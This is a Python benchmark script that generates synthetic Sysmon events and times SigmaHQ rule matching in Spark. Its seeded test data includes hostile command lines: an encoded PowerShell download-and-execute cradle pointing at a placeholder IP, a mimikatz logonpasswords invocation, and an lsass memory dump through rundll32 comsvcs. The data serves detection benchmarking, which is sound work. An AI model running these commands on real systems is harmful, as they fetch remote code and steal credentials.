"""Sigma rules (``api = sigma``) over Sysmon events: what N rules cost over a parse-and-count job.

Input: ``--events`` Sysmon events in the flat JSON of OTRF Security-Datasets (one object a line,
``--files`` files), generated with a fixed seed: a day of ordinary Windows activity on a few dozen
hosts (EventID 1, 3, 7, 8, 10, 11, 12, 13 in Sysmon's usual proportions, each with the fields
Sysmon writes for it and a rendered ``Message``), and about 0.1% suspicious events (encoded
PowerShell, a mimikatz-like command line, rundll32 comsvcs MiniDump, lsass opened with 0x1fffff).
They are cached in ``/tmp/datashark-sigma-bench/<events>-<seed>`` (``--data`` overrides).

Rules: the files of ``--rules`` (SigmaHQ's rules/windows), sorted, shuffled with the seed; for
each of ``--counts`` the first that many, compiled with the ``sysmon`` and ``windows-logsources``
pipelines as a use case's ``SigmaRules`` does (not timed; its seconds are printed).

On dataShark's SparkContext (``start_spark``, local[2]) and the session a Sigma use case gets
(``usecase_session``: case-sensitive, no whole-stage code generation), each timed job reads the
same folder with ``spark.read.schema(...).json`` (the schema inferred once beforehand, then one
untimed parse-and-count as a warm-up) and collects its result:

- **parse-and-count**: a count per ``Hostname`` and ``EventID``, on the default session (the
  reference of the ratios) and on the Sigma session;
- **sigma**: ``sigma_findings`` of the rules that ``runnable`` keeps (``prepare s``: the
  seconds of ``runnable``, Spark's analysis and Java's regex checks, not in the job's time),
  ``--chunk`` conditions per array of matches; at the largest count, each of ``--chunks`` too.

events/s = events / wall seconds of the job; ``--runs`` rounds, alternating the variants, the
best shown (all in the last column). The ratio is a variant's best over the default-session
baseline's best.

    .venv/bin/python bench/sigma_bench.py [--events 1000000] [--counts 10,100,1000] [--runs 1]
"""

from __future__ import annotations

import argparse
import base64
import functools
import hashlib
import itertools
import json
import os
import random
import re
import shutil
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))

from datashark.config.spec import spec_lines, validate_section  # noqa: E402
from datashark.errors import ConfLocation  # noqa: E402
from datashark.sigma.findings import FindingFields  # noqa: E402
from datashark.sigma.pipelines import processing_pipeline  # noqa: E402
from datashark.sigma.rules import RuleSet, compile_rules, rule_files  # noqa: E402
from datashark.sigma.usecase import names  # noqa: E402

SYSMON = "Microsoft-Windows-Sysmon/Operational"
DAY = "2025-03-03"
HOSTS = [f"WS{n:03d}.corp.example" for n in range(1, 37)] + ["DC01.corp.example", "FS01.corp.example"]
USERS = [f"CORP\\{name}" for name in ("alice", "bob", "carol", "dave", "erin", "svc_backup")]
USERS += ["NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE"]
S32 = "C:\\Windows\\System32\\"
EXPLORER, SVCHOST, CMD, LSASS = (
    "C:\\Windows\\explorer.exe",
    f"{S32}svchost.exe",
    f"{S32}cmd.exe",
    f"{S32}lsass.exe",
)
SERVICES, NETSVCS = f"{S32}services.exe", f"{S32}svchost.exe -k netsvcs -p"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\MsMpEng.exe"
PUBLIC = "C:\\Users\\Public\\"
# Sysmon's usual mix: image loads and connections dominate, process creations are few.
WEIGHTS = {7: 30, 3: 22, 10: 12, 13: 11, 11: 10, 12: 7, 1: 7.5, 8: 0.5}
EVENT_IDS, CUMULATIVE = list(WEIGHTS), list(itertools.accumulate(WEIGHTS.values()))
SUSPICIOUS_SHARE = 0.001
# (parent, parent's command line, image, command line) of everyday process creations.
LAUNCHES = [
    (SERVICES, SERVICES, SVCHOST, f"{SVCHOST} -k netsvcs -p -s Schedule"),
    (EXPLORER, EXPLORER, CHROME, f'"{CHROME}" --profile-directory=Default'),
    (CHROME, f'"{CHROME}"', CHROME, f'"{CHROME}" --type=renderer --field-trial-handle=1720,i,{{n}}'),
    (EXPLORER, EXPLORER, WORD, '"WINWORD.EXE" /n "C:\\Users\\Public\\report{n}.docx"'),
    (SVCHOST, NETSVCS, f"{S32}wbem\\WmiPrvSE.exe", f"{S32}wbem\\wmiprvse.exe -Embedding"),
    (SVCHOST, NETSVCS, f"{S32}taskhostw.exe", "taskhostw.exe Install $(Arg0)"),
    (EXPLORER, EXPLORER, CMD, f'"{CMD}"'),
    (CMD, f'"{CMD}"', f"{S32}ipconfig.exe", "ipconfig /all"),
    (SERVICES, SERVICES, DEFENDER, f'"{DEFENDER}"'),
    (SVCHOST, NETSVCS, f"{S32}backgroundTaskHost.exe", "backgroundTaskHost.exe -ServerName:App"),
]
IMAGES = [SVCHOST, CHROME, EXPLORER, WORD, DEFENDER, f"{S32}SearchIndexer.exe", f"{S32}RuntimeBroker.exe"]
DLLS = [S32 + name for name in ("ntdll.dll", "kernel32.dll", "KernelBase.dll", "advapi32.dll", "ws2_32.dll")]
DLLS += [S32 + name for name in ("crypt32.dll", "combase.dll", "user32.dll", "wininet.dll", "bcrypt.dll")]
DESTINATIONS = [("10.0.0.10", 53), ("10.0.0.10", 389), ("10.0.0.11", 445), ("142.250.74.110", 443)]
DESTINATIONS += [("13.107.42.14", 443), ("52.96.165.18", 443), ("151.101.1.69", 443), ("10.0.0.12", 80)]
FILES = [
    "C:\\Users\\{user}\\AppData\\Local\\Temp\\tmp{n:04X}.tmp",
    "C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_{n:06x}",
    "C:\\Windows\\Prefetch\\SVCHOST.EXE-{n:08X}.pf",
    "C:\\Users\\{user}\\Downloads\\invoice-{n}.pdf",
]
KEYS = [
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-{n}\\chrome.exe",
    "HKU\\S-1-5-21-{n}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.pdf",
    "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
    "HKU\\S-1-5-21-{n}\\Software\\Microsoft\\Office\\16.0\\Word\\Reading Locations\\Document 0",
]
TRACE = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e"
ACCESSES = [(SVCHOST, LSASS, "0x1000"), (DEFENDER, LSASS, "0x1410"), (CHROME, CHROME, "0x1000")]
THREADS = [(f"{S32}csrss.exe", f"{S32}dwm.exe"), (f"{S32}csrss.exe", SVCHOST)]
DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
ENCODED = base64.b64encode(DOWNLOAD.encode("utf-16-le")).decode()
ATTACKS = [  # suspicious process creations; the fourth kind is lsass opened with 0x1fffff
    (
        WORD,
        '"WINWORD.EXE" /n',
        f"{S32}WindowsPowerShell\\v1.0\\powershell.exe",
        f"powershell -nop -enc {ENCODED}",
    ),
    (CMD, "cmd.exe /c", f"{PUBLIC}mimi.exe", 'mimi.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    (CMD, "cmd.exe /c", f"{S32}rundll32.exe", f"rundll32.exe {S32}comsvcs.dll, MiniDump 624 {PUBLIC}l full"),
]
TITLES = {1: "Process Create", 3: "Network connection detected", 7: "Image loaded", 8: "CreateRemoteThread"}
TITLES |= {10: "Process accessed", 11: "File created", 12: "Registry object added or deleted"}
TITLES |= {13: "Registry value set"}


@functools.cache
def hashes(image: str) -> str:
    """Sysmon's ``Hashes`` of a file, made up from its path."""
    d = hashlib.sha256(image.encode()).hexdigest().upper()
    return f"MD5={d[32:]},SHA256={d},IMPHASH={d[:32]}"


def process_create(user: str, parent: str, parent_line: str, image: str, line: str) -> dict:
    """The fields of an EventID 1 after the process's id."""
    original, integrity = image.rsplit("\\", 1)[-1], "Medium"
    return dict(
        Image=image, OriginalFileName=original, CommandLine=line, CurrentDirectory=S32, User=user
    ) | dict(
        IntegrityLevel=integrity, Hashes=hashes(image), ParentImage=parent, ParentCommandLine=parent_line
    )


def fields_of(rng: random.Random, event_id: int, user: str) -> dict:
    """The fields of an ordinary event ``event_id`` after the process's id, as Sysmon writes them."""
    n, image = rng.randrange(1 << 16), rng.choice(IMAGES)
    if event_id == 1:
        parent, parent_line, image, line = rng.choice(LAUNCHES)
        return process_create(user, parent, parent_line, image, line.format(n=n))
    if event_id == 3:
        ip, port = rng.choice(DESTINATIONS)
        source = dict(SourceIp=f"10.1.{n >> 8}.{n & 255}", SourcePort=49152 + n % 16000)
        return dict(Image=image, User=user, Protocol="tcp", Initiated="true", **source) | dict(
            DestinationIp=ip, DestinationPort=port
        )
    if event_id == 7:
        dll = rng.choice(DLLS)
        return dict(Image=image, ImageLoaded=dll, Hashes=hashes(dll), Signed="true", User=user)
    if event_id == 8:
        source, target = rng.choice(THREADS)
        return dict(SourceImage=source, TargetProcessId=rng.randrange(400, 20000), TargetImage=target) | dict(
            StartAddress=f"0x{n:016X}", StartModule=f"{S32}ntdll.dll", StartFunction="-"
        )
    if event_id == 10:
        source, target, access = rng.choice(ACCESSES)
        return dict(
            SourceImage=source, TargetImage=target, GrantedAccess=access, CallTrace=TRACE, SourceUser=user
        )
    if event_id == 11:
        return dict(
            Image=image, TargetFilename=rng.choice(FILES).format(n=n, user=user.split("\\")[-1]), User=user
        )
    found = dict(EventType="CreateKey" if event_id == 12 else "SetValue", Image=image)
    found["TargetObject"] = rng.choice(KEYS).format(n=n)
    return found | (dict(Details="DWORD (0x00000001)") if event_id == 13 else {}) | dict(User=user)


def record(rng: random.Random, number: int) -> dict:
    """Event ``number`` (its EventRecordID); one of ``ATTACKS`` with ``SUSPICIOUS_SHARE``."""
    host, user, ms = rng.choice(HOSTS), rng.choice(USERS), rng.randrange(86_400_000)
    clock = f"{ms // 3_600_000:02d}:{ms // 60_000 % 60:02d}:{ms // 1000 % 60:02d}.{ms % 1000:03d}"
    pid, kind = rng.randrange(400, 20000), rng.randrange(len(ATTACKS) + 1)
    if rng.random() >= SUSPICIOUS_SHARE:
        event_id = rng.choices(EVENT_IDS, cum_weights=CUMULATIVE)[0]
        fields = fields_of(rng, event_id, user)
    elif kind < len(ATTACKS):
        event_id, fields = 1, process_create(user, *ATTACKS[kind])
    else:
        event_id, fields = (
            10,
            dict(SourceImage=f"{PUBLIC}mimi.exe", TargetImage=LSASS, GrantedAccess="0x1fffff"),
        )
        fields |= dict(CallTrace=f"{TRACE}|UNKNOWN(00000000001A2B3C)", SourceUser=user)
    source = "Source" if event_id in (8, 10) else ""  # the process that acts on another
    guid = f"{{5770385f-{number & 0xFFFF:04x}-6421-0000-0010{ms:08x}}}"
    fields = {"UtcTime": f"{DAY} {clock}", f"{source}ProcessGuid": guid, f"{source}ProcessId": pid} | fields
    text = "\r\n".join([f"{TITLES[event_id]}:", "RuleName: -", *(f"{k}: {v}" for k, v in fields.items())])
    common = dict(EventID=event_id, Channel=SYSMON, Hostname=host, TimeCreated=f"{DAY}T{clock}Z")
    return common | {"EventRecordID": str(number)} | fields | {"Message": text}


def generate(folder: Path, events: int, files: int, seed: int) -> None:
    """Write ``events`` events into ``files`` JSON-lines files of ``folder`` (atomically)."""
    partial = folder.with_name(folder.name + ".partial")
    shutil.rmtree(partial, ignore_errors=True)
    partial.mkdir(parents=True)
    for part in range(files):
        rng = random.Random(f"{seed}-{part}")
        with (partial / f"part-{part:05d}.json").open("w") as out:
            for number in range(events * part // files, events * (part + 1) // files):
                out.write(json.dumps(record(rng, number + 1), separators=(",", ":")) + "\n")
    partial.rename(folder)


@dataclass
class Variant:
    """One timed job and what it did."""

    name: str
    job: Callable[[], int]  # runs the job, returns how many rows it collected
    rules: int | None = None
    chunk: int | None = None
    prepare: float | None = None
    rates: list[float] = field(default_factory=list)
    rows: int = 0


def log(text: str) -> None:
    print(text, file=sys.stderr, flush=True)


def finding_fields() -> FindingFields:
    """The finding fields of a Sigma use case that sets none (``config/spec/sigma.spec``'s defaults)."""
    conf = validate_section(
        {"rules": "-"}, spec_lines("sigma"), where=ConfLocation("bench"), allow_extra=False
    )
    lists = {name: names(conf[f"sigma.{name}_fields"]) for name in ("host", "user", "time", "event_id")}
    numbers = {name: conf[f"sigma.{name}"] for name in ("window_minutes", "late_minutes", "max_users")}
    return FindingFields(**lists, **numbers)


def sigma_variant(spark, data: str, schema, ruleset: RuleSet, count: int, chunk: int) -> tuple[Variant, list]:
    """The job of ``ruleset``'s rules, ``chunk`` conditions per array, prepared (``runnable``, timed
    apart); and the rules ``runnable`` sets aside. Correlation rules whose rules all run are run
    too, as ``SigmaRules.load`` does."""
    from datashark.sigma.correlations import correlations_of
    from datashark.sigma.findings import sigma_findings
    from datashark.sigma.matching import runnable

    started = time.perf_counter()
    events = spark.read.schema(schema).json(data)
    compile_regex = spark.sparkContext._jvm.java.util.regex.Pattern.compile
    conditions, failed = runnable(events, ruleset.detections, chunk, compile_regex)
    runs = {detection.number for detection, _ in conditions}
    ready, _ = correlations_of(ruleset, len(ruleset.detections))
    rules = [conditions, [item for item in ready if runs.issuperset(item.rules)]]
    prepare = time.perf_counter() - started
    fields = finding_fields()

    def job() -> int:
        events = spark.read.schema(schema).json(data)
        return len(sigma_findings(events, *rules, fields, chunk, streaming=False).collect())

    return Variant(f"sigma {count} rules", job, len(conditions), chunk, prepare), failed


def report(variants: list[Variant], header: str) -> None:
    """The Markdown table: each variant's best events/s, and its ratio to the first's."""
    print(f"`{' '.join(['python', *sys.argv])}`\n\n{header}\n")
    columns = ["variant", "rules", "chunk", "events/s", "ratio to baseline", "prepare s", "findings"]
    print("| " + " | ".join([*columns, "each run, events/s"]) + " |")
    print("|---|---:|---:|---:|---:|---:|---:|---|")
    base = max(variants[0].rates)
    for v in variants:
        prepare = "-" if v.prepare is None else f"{v.prepare:.1f}"
        found = f"({v.rows} groups)" if v.rules is None else f"{v.rows:,}"
        runs = ", ".join(f"{rate:,.0f}" for rate in v.rates)
        cells = [v.name, v.rules or "-", v.chunk or "-", f"{max(v.rates):,.0f}", f"{max(v.rates) / base:.2f}"]
        print("| " + " | ".join(map(str, [*cells, prepare, found, runs])) + " |")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--files", type=int, default=4, help="JSON files (Spark's input partitions)")
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--data", type=Path, help="the events' folder (default: cached under /tmp)")
    parser.add_argument("--rules", default="/tmp/sigma-rules/rules/windows", help="a folder of Sigma rules")
    parser.add_argument("--counts", default="10,100,1000", help="rule files per variant")
    parser.add_argument("--chunk", type=int, default=50, help="conditions per array of matches")
    parser.add_argument("--chunks", default="25,50,100,250,1000", help="swept at the largest count")
    parser.add_argument("--runs", type=int, default=1)
    args = parser.parse_args()
    files = rule_files([args.rules])
    if not files:
        sys.exit(
            f"no Sigma rules in {args.rules}: pass --rules with a folder of SigmaHQ rules, "
            "e.g. a clone of https://github.com/SigmaHQ/sigma's rules/windows"
        )
    random.Random(args.seed).shuffle(files)
    counts = sorted({min(int(item), len(files)) for item in args.counts.split(",")})
    folder = args.data or Path(f"/tmp/datashark-sigma-bench/{args.events}-{args.seed}")
    if not folder.is_dir():
        started = time.perf_counter()
        generate(folder, args.events, args.files, args.seed)
        log(f"generated {folder} in {time.perf_counter() - started:.1f} s")
    rulesets: dict[int, tuple[RuleSet, float]] = {}
    for count in counts:
        started = time.perf_counter()
        pipeline = processing_pipeline(["sysmon", "windows-logsources"], str, ConfLocation("bench"))
        rulesets[count] = compile_rules(files[:count], pipeline, "Message"), time.perf_counter() - started
        log(f"compiled {count} rule files in {rulesets[count][1]:.1f} s")

    from datashark.config.settings import load_settings
    from datashark.frames.events import spark_session, usecase_session
    from datashark.run.spark import start_spark

    venv_python = REPO / ".venv" / "bin" / "python"
    os.environ.setdefault("PYSPARK_PYTHON", str(venv_python if venv_python.exists() else sys.executable))
    home = Path(tempfile.mkdtemp(prefix="sigma-bench-home-"))
    (home / "datashark.conf").write_text("")  # dataShark's defaults
    sc = start_spark(load_settings(home), "local[2]", "sigma bench")
    spark = usecase_session(sc, SimpleNamespace(api="sigma"))  # what an api = sigma use case gets
    data = str(folder)
    schema = spark.read.json(data).schema  # a full pass, not timed: inference, and the warm-up

    def parse_and_count(session) -> Callable[[], int]:
        return lambda: len(
            session.read.schema(schema).json(data).groupBy("Hostname", "EventID").count().collect()
        )

    variants = [
        Variant("parse-and-count", parse_and_count(spark_session(sc))),
        Variant("parse-and-count, Sigma session", parse_and_count(spark)),
    ]
    set_aside: dict[int, list] = {}
    sweep = [chunk for chunk in map(int, args.chunks.split(",")) if chunk != args.chunk]
    for count in counts:
        for chunk in [args.chunk, *(sweep if count == counts[-1] else [])]:
            variant, set_aside[count] = sigma_variant(spark, data, schema, rulesets[count][0], count, chunk)
            variants.append(variant)
            log(f"prepared {variant.name}, chunk {chunk}, in {variant.prepare:.1f} s")
    variants[0].job()  # the warm-up
    for run in range(args.runs):
        for variant in variants:
            started = time.perf_counter()
            variant.rows = variant.job()
            variant.rates.append(args.events / (time.perf_counter() - started))
            log(f"run {run + 1}: {variant.name}, chunk {variant.chunk}: {variant.rates[-1]:,.0f} events/s")
    version = sc.version
    sc.stop()
    shutil.rmtree(home, ignore_errors=True)

    parts = list(folder.iterdir())
    size = sum(item.stat().st_size for item in parts) / 2**20
    report(
        variants,
        f"Spark {version}, local[2], {os.cpu_count()} CPUs; {args.events:,} events ({size:,.0f} MiB in "
        f"{len(parts)} files, {folder}); {len(files)} rule files in {args.rules}; best of {args.runs} runs",
    )
    print()
    for count in counts:
        ruleset, seconds = rulesets[count]
        ran, failed = len(ruleset.detections) - len(set_aside[count]), len(set_aside[count])
        pysigma, correlations = len(ruleset.unconverted), len(ruleset.correlations)
        print(
            f"- {count} rule files (compiled in {seconds:.1f} s): {ran} rules run, {pysigma} set aside by"
            f" pySigma, {failed} by Spark or Java; {correlations} correlation rules among them"
        )
    unrun = [*rulesets[counts[-1]][0].unconverted, *set_aside[counts[-1]]]
    reasons = Counter(re.sub(r"'[^']*'", "'…'", item.reason)[:150] for item in unrun)
    print(f"\nWhy rules were set aside at {counts[-1]} rule files (quoted names left out):\n")
    print("\n".join(f"- {times} x {reason}" for reason, times in reasons.most_common(12)) or "- none")


if __name__ == "__main__":
    main()
